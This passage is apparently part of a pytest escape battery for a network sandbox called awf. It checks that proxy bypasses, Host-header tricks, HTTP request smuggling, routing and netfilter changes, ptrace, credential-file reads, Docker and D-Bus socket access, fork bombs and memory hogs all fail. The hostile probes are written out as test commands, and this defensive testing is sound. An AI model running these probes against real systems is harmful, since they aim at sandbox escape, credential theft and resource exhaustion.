         args=["-d", "private.test"], invariant="allowed name resolving to RFC 1918 refused (transparent)"),
    # ---- proxy-environment tricks
    Case("no-proxy-star", "NO_PROXY='*' no_proxy='*' {curl} {codes} http://blocked.test/",
         lambda r, e: dns_refused(r, "blocked.test"), invariant="bypassing the proxy variables reaches only awf"),
    Case("no-proxy-star-resolved", f"NO_PROXY='*' no_proxy='*' {{curl}} {{codes}} --resolve blocked.test:80:{V.EVIL4} http://blocked.test/",
         lambda r, e: http_denied(r, "blocked.test", transport="transparent"),
         invariant="bypassing the proxy variables reaches only awf"),
    Case("all-proxy-empty", "unset ALL_PROXY all_proxy HTTPS_PROXY https_proxy; {curl} https://blocked.test/; echo rc=$?",
         lambda r, e: (out(r, "^rc=6"), dns_refused(r, "blocked.test")),
         invariant="bypassing the proxy variables reaches only awf"),
    # ---- Host / URI games
    Case("host-header-allowed-url-blocked", "{curl} {codes} -H 'Host: allowed.test' http://blocked.test/",
         lambda r, e: (out(r, "code=403"), deny(r, kind="http", status=403)),
         invariant="Host and absolute-URI must agree"),
    Case("host-header-blocked-url-allowed", "{curl} {codes} -H 'Host: blocked.test' http://allowed.test/",
         lambda r, e: (out(r, "code=403"), reason(r, "does not match", kind="http", status=403)),
         invariant="Host and absolute-URI must agree"),
    Case("host-header-blocked-transparent", "{ncurl} {codes} -H 'Host: blocked.test' http://allowed.test/",
         lambda r, e: http_denied(r, "blocked.test", transport="transparent"),
         invariant="transparent HTTP decided by Host"),
    Case("host-header-allowed-at-evil-transparent", f"{{ncurl}} -H 'Host: allowed.test' --resolve blocked.test:80:{V.EVIL4} http://blocked.test/hh",
         lambda r, e: out(r, f"^origin={V.ALLOWED4} host=allowed.test path=/hh"),
         invariant="connect by awf's own resolution of the Host name"),
    Case("absolute-uri-vs-host-transparent", T + " 'GET http://blocked.test/ HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n'",
         lambda r, e: (out(r, "^status: HTTP/1.1 403"), reason(r, "does not match", transport="transparent")),
         invariant="Host and absolute-URI must agree (transparent)"),
    Case("no-host-transparent", T + " 'GET / HTTP/1.0\\r\\n\\r\\n'",
         lambda r, e: (out(r, "^status: HTTP/1.1 400"), reason(r, "without a Host", transport="transparent"),
                       no_name(r, 400)),
         invariant="no name, no decision: dialled address never used"),
    Case("duplicate-host", R + " 'GET http://allowed.test/ HTTP/1.1\\r\\nHost: allowed.test\\r\\nHost: blocked.test\\r\\n\\r\\n'",
         lambda r, e: (out(r, "^status: HTTP/1.1 400"), deny(r, kind="http", status=400)),
         invariant="strict HTTP: one Host"),
    Case("userinfo-in-uri", "{curl} {codes} http://allowed.test@blocked.test/",
         lambda r, e: http_denied(r, "blocked.test"), invariant="the authority's host, not its userinfo, is the name"),
    Case("userinfo-raw-blocked-host", R + " 'GET http://allowed.test@blocked.test/ HTTP/1.1\\r\\nHost: blocked.test\\r\\n\\r\\n'",
         lambda r, e: (out(r, "^status: HTTP/1.1 400"), deny(r, "blocked.test", kind="http", status=400)),
         invariant="userinfo in request targets refused"),
    Case("userinfo-raw-allowed-host", R + " 'GET http://blocked.test@allowed.test/ HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n'",
         lambda r, e: (out(r, "^status: HTTP/1.1 400"), deny(r, kind="http", status=400)),
         invariant="userinfo in request targets refused"),
    Case("cross-domain-redirect", "{curl} {codes} -L 'http://allowed.test/redirect?to=http://blocked.test/next'",
         lambda r, e: (out(r, "code=403"), http_denied(r, "blocked.test"),
                       r.audit_for("allowed.test", action="allow", status=302) or pytest.fail(r.describe())),
         invariant="every hop decided on its own (redirects)"),
    Case("cross-domain-redirect-https", "{ncurl} {codes} -L 'https://allowed.test/redirect?to=https://blocked.test/next'",
         lambda r, e: (dns_refused(r, "blocked.test"),
                       r.audit_for("allowed.test", kind="tls", action="allow") or pytest.fail(r.describe())),
         invariant="every hop decided on its own (redirects, transparent)"),
    # ---- request smuggling (strict HTTP): 400 and a record
    Case("smuggle-cl-te", ALLOWED_BODY + "Content-Length: 4\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\n'",
         lambda r, e: smuggle_denied(r, "Content-Length"), invariant="strict HTTP: CL+TE"),
    Case("smuggle-duplicate-cl", ALLOWED_BODY + "Content-Length: 4\\r\\nContent-Length: 40\\r\\n\\r\\nabcd'",
         lambda r, e: smuggle_denied(r, "Content-Length"), invariant="strict HTTP: duplicate CL"),
    Case("smuggle-signed-cl", ALLOWED_BODY + "Content-Length: +4\\r\\n\\r\\nabcd'",
         lambda r, e: smuggle_denied(r, "Content-Length"), invariant="strict HTTP: non-numeric CL"),
    Case("smuggle-te-not-chunked", ALLOWED_BODY + "Transfer-Encoding: gzip, chunked\\r\\n\\r\\n0\\r\\n\\r\\n'",
         lambda r, e: smuggle_denied(r, "Transfer-Encoding"), invariant="strict HTTP: TE other than chunked"),
    Case("smuggle-te-space-before-colon", ALLOWED_BODY + "Transfer-Encoding : chunked\\r\\n\\r\\n0\\r\\n\\r\\n'",
         lambda r, e: smuggle_denied(r, ""), invariant="strict HTTP: header name with a space"),
    Case("smuggle-obs-fold", R + " 'GET http://allowed.test/ HTTP/1.1\\r\\nHost: allowed.test\\r\\nX-A: a\\r\\n  folded\\r\\n\\r\\n'",
         lambda r, e: smuggle_denied(r, "fold"), invariant="strict HTTP: obsolete line folding"),
    Case("smuggle-bare-lf-in-head", R + " 'GET http://allowed.test/ HTTP/1.1\\r\\nHost: allowed.test\\nX-B: 1\\r\\n\\r\\n'",
         lambda r, e: smuggle_denied(r, "bare LF"), invariant="strict HTTP: bare LF"),
    Case("smuggle-bare-cr", R + " 'GET http://allowed.test/ HTTP/1.1\\r\\nHost: allowed.test\\rX-B: 1\\r\\n\\r\\n'",
         lambda r, e: smuggle_denied(r, "bare CR"), invariant="strict HTTP: bare CR"),
    Case("smuggle-lf-only-head", R + " 'GET http://allowed.test/ HTTP/1.1\\nHost: allowed.test\\n\\n' 4",
         lambda r, e: (smuggle_denied(r, "bare LF"), answered_at_once(r)),
         invariant="strict HTTP: a head with LF line ends only"),
    Case("smuggle-lf-only-head-transparent", T + " 'GET / HTTP/1.1\\nHost: allowed.test\\n\\n' 4",
         lambda r, e: (smuggle_denied(r, "bare LF"), answered_at_once(r)),
         invariant="strict HTTP: a head with LF line ends only (transparent)"),
    Case("smuggle-cr-only-head", R + " 'GET http://allowed.test/ HTTP/1.1\\rHost: allowed.test\\r\\r' 4",
         lambda r, e: (smuggle_denied(r, "bare CR"), answered_at_once(r)),
         invariant="strict HTTP: a head with CR line ends only"),
    Case("smuggle-cl-te-transparent", T + " 'POST /echo HTTP/1.1\\r\\nHost: allowed.test\\r\\nContent-Length: 4\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\n'",
         lambda r, e: smuggle_denied(r, "Content-Length"), invariant="strict HTTP on transparent ports"),
    Case("smuggle-control-byte", R + " 'GET http://allowed.test/ HTTP/1.1\\r\\nHost: allowed.test\\r\\nX-C: a\\x00b\\r\\n\\r\\n'",
         lambda r, e: smuggle_denied(r, ""), invariant="strict HTTP: control bytes"),
    # ---- changing the rules from inside
    Case("ip-route-add", "ip route add 198.51.100.0/24 dev lo; echo rc=$?",
         lambda r, e: (out(r, "RTNETLINK answers: Operation not permitted"), out(r, "^rc=2")),
         invariant="no CAP_NET_ADMIN: routes fixed"),
    Case("ip-route-del-local-default", "ip route del local default dev lo table local; ip route del local 0.0.0.0/0 dev lo table local; echo rc=$?",
         lambda r, e: (out(r, "Operation not permitted"), no_out(r, "^rc=0")),
         invariant="no CAP_NET_ADMIN: the local-default route stays"),
    Case("ip-link-add", "ip link add awf0 type dummy; echo rc=$?",
         lambda r, e: (out(r, "RTNETLINK answers: Operation not permitted"), out(r, "^rc=2")),
         invariant="no CAP_NET_ADMIN: no new links"),
    Case("ip-link-lo-down", "ip link set lo down; echo rc=$?",
         lambda r, e: (out(r, "Operation not permitted"), out(r, "^rc=2")),
         invariant="no CAP_NET_ADMIN: lo stays up"),
    Case("netlink-newroute-raw", "{probe} netlink_newroute",
         lambda r, e: out(r, r"^netlink_newroute: \[Errno 1\] Operation not permitted"),
         invariant="NETLINK_ROUTE is read-only without capabilities"),
    Case("nftables", "if command -v nft >/dev/null; then nft flush ruleset; else iptables -t nat -F; fi; echo rc=$?",
         lambda r, e: (out(r, "Operation not permitted|Permission denied"), no_out(r, "^rc=0")),
         invariant="netfilter unreachable (no capability, no netfilter netlink)"),
    Case("netlink-netfilter-socket", "{probe} netlink_netfilter netlink_audit",
         lambda r, e: (out(r, r"^netlink_netfilter: \[Errno 1\]"), out(r, r"^netlink_audit: \[Errno 1\]")),
         invariant="seccomp: non-route netlink denied"),
    Case("af-packet-socket", "{probe} af_packet",
         lambda r, e: out(r, r"^af_packet: \[Errno 1\] Operation not permitted"), invariant="seccomp: AF_PACKET denied"),
    Case("raw-ip-socket", "{probe} raw_ip raw_ip6",
         lambda r, e: (out(r, r"^raw_ip: \[Errno 1\]"), out(r, r"^raw_ip6: \[Errno 1\]")),
         invariant="seccomp: raw IP sockets denied"),
    Case("io-uring-socket", "{io_uring}; echo rc=$?",
         lambda r, e: (out(r, r"^io_uring_setup: \[Errno 1\] Operation not permitted"), out(r, "^rc=1")),
         invariant="seccomp: io_uring denied (it would open sockets around the filter)"),
    Case("ptrace-sibling", "{probe} ptrace_sibling",
         lambda r, e: out(r, r"^ptrace_sibling: \[Errno 1\] Operation not permitted"), invariant="seccomp: ptrace denied"),
    Case("ptrace-sandbox-init", "{probe} ptrace_init vm_readv_init proc_mem_init environ_init",
         lambda r, e: (out(r, r"^ptrace_init: \[Errno 1\]"), out(r, r"^vm_readv_init: \[Errno 1\]"),
                       out(r, r"^proc_mem_init: \[Errno (1|13)\]"), out(r, r"^environ_init: \[Errno (1|13)\]")),
         invariant="awf-sandbox (PID 1) cannot be read or steered"),
    Case("strace-attach", "sleep 10 & strace -p $! -e trace=none 2>&1 | head -2; kill %1",
         lambda r, e: out(r, "Operation not permitted"), invariant="seccomp: ptrace denied (strace)"),
    # ---- what the command may not see
    *[Case(f"credential-{rel.replace('/', '-').lstrip('.')}", f"cat $HOME/{rel}; echo size=$(cat $HOME/{rel} 2>/dev/null | wc -c)",
           lambda r, e, rel=rel: (out(r, "^size=0$"), no_out(r, "SECRET-"),
                                  out(r, "No such file" if rel.split("/")[0] in ABSENT_DIRS else "^size=0$")),
           invariant="credential files masked or absent", fixture="cred_user")
      for rel in (".ssh/id_ed25519", ".aws/credentials", ".docker/config.json", ".config/gh/hosts.yml",
                  ".claude/.credentials.json", ".config/gcloud/application_default_credentials.json")],
    Case("credential-overwrite", "echo pwned > $HOME/.config/gh/hosts.yml; echo rc=$?",
         lambda r, e: (out(r, "Read-only file system|Permission denied"), no_out(r, "^rc=0")),
         invariant="masked credentials are read-only", fixture="cred_user"),
    Case("docker-sock-well-known", "for s in /var/run/docker.sock /run/docker.sock /run/containerd/containerd.sock "
         "/run/podman/podman.sock; do curl -sS --max-time 2 --unix-socket $s http://x/version; done; ls -A /run | wc -l",
         lambda r, e: (out(r, r"Failed to connect to x port 80|Couldn't connect"), no_out(r, "canary-reached"),
                       out(r, "^0$")), invariant="host IPC sockets hidden (/run is a fresh tmpfs)"),
    Case("docker-sock-fake-in-tmp", "curl -sS --max-time 2 --unix-socket {docker} http://x/version; echo rc=$?",
         lambda r, e: (out(r, "^rc=7"), no_out(r, "canary-reached")), invariant="host IPC sockets in /tmp unreachable (private /tmp)"),
    Case("dbus-system-bus", f"{{py}} -c \"import socket\nfor a in ('/run/dbus/system_bus_socket', '/var/run/dbus/system_bus_socket', '{{dbus}}', '\\0{{abstract}}'):\n"
         "  s = socket.socket(socket.AF_UNIX)\n  try: s.connect(a); print('connected', repr(a), s.recv(50))\n"
         "  except OSError as x: print('refused', repr(a), x.strerror)\"",
         lambda r, e: (no_out(r, "^connected"), out(r, r"^refused '/run/dbus/system_bus_socket' No such file"),
                       len(re.findall(r"^refused", r.stdout, re.M)) == 4 or pytest.fail(r.describe())),
         invariant="D-Bus (path and abstract) unreachable"),
    Case("read-awf-logs", "ls -A {logs}; cat {logs}/audit.jsonl {logs}/access.log; echo x > {logs}/audit.jsonl; echo rc=$?",
         lambda r, e: (out(r, "No such file"), out(r, "Read-only file system|Permission denied"),
                       no_out(r, '"kind"'), no_out(r, "^rc=0")), invariant="awf's logs hidden and not writable"),
    # ---- exhausting the host
    Case("fork-bomb", "{py} {fork_bomb}",
         lambda r, e: (out(r, r"^forked=\d+ refused=\d+ error=Resource temporarily unavailable"),
                       int(re.search(r"forked=(\d+)", r.stdout).group(1)) < 40 or pytest.fail(r.describe()),
                       out(r, r"awf: the sandbox hit its process limit \(--pids-limit 40\)")),
         args=["-d", "allowed.test", "--pids-limit", "40"], fixture="cgroups",
         invariant="--pids-limit bounds a fork bomb"),
    Case("memory-hog", "{py} -c \"x = bytearray(512 << 20); print('allocated', len(x))\"; echo rc=$?",
         lambda r, e: (no_out(r, "^allocated"),  # the OOM killer may pick the shell too
                       out(r, r"awf: the sandbox hit its memory limit \(--memory-limit 48m\)|MemoryError")),
         args=["-d", "allowed.test", "--memory-limit", "48m"], fixture="cgroups",
         invariant="--memory-limit bounds a memory hog"),
]

ABSENT_DIRS = {".ssh", ".aws", ".docker"}
CREDENTIALS = [".ssh/id_ed25519", ".aws/credentials", ".docker/config.json", ".config/gh/hosts.yml",
               ".claude/.credentials.json", ".config/gcloud/application_default_credentials.json"]


def assert_invariants(r, vnet, mark, env_: Env):
    for addr in NEVER_REACHED:
        hits = reached(vnet, mark, origin=addr)
        assert not hits, f"{addr} was reached: {hits}" + r.describe()
    leaked = [q for q in vnet.dns_queries(mark)
              if any((q.get("name") or "").lower().rstrip(".").endswith(s) for s in NEVER_ASKED)]
    assert not leaked, f"DNS queries for blocked names left the host: {leaked}" + r.describe()
    assert not vnet.udp_datagrams(mark), vnet.udp_datagrams(mark)
    with open(env_.canary_log) as f:
        hits = f.read().split()
    assert not hits, f"canary reached: {hits}" + r.describe()
    assert all("_error" not in x for x in r.audit), r.describe()
    assert r.last_stderr_line.startswith("Process exiting with code:"), r.describe()


@pytest.mark.parametrize("case", [pytest.param(c, id=c.id, marks=c.marks) for c in CASES])
def test_battery(awf, vnet, env, request, case: Case):
    prefix: list[str] = []
    args = list(case.args)
    if case.fixture == "cred_user":
        user = request.getfixturevalue("cred_user")
        args += ["--user", user["name"]]
    elif case.fixture == "cgroups":
        request.getfixturevalue("cgroups")
        prefix = HOST_MOUNTS
    if "{io_uring}" in case.cmd and env.io_uring is None:
        pytest.skip("no C compiler (cc) to build the io_uring probe")
    env.logs_dir = vnet.new_logs_dir(case.id)
    script = case.cmd.format(**env.fmt())
    m = vnet.mark()
    t0 = time.monotonic()
    r = awf(args, ["bash", "-c", script], timeout=case.timeout, logs_dir=env.logs_dir, prefix=prefix)
    assert not r.timed_out, r.describe()
    case.check(r, env)
    time.sleep(0.05)  # a datagram or request in flight would be logged by now
    assert_invariants(r, vnet, m, env)
    assert time.monotonic() - t0 < 20, f"case took {time.monotonic() - t0:.1f} s" + r.describe()


def test_battery_is_large_enough():
    ids = [c.id for c in CASES]
    assert len(ids) == len(set(ids)), "duplicate case ids"
    assert len(ids) >= 50
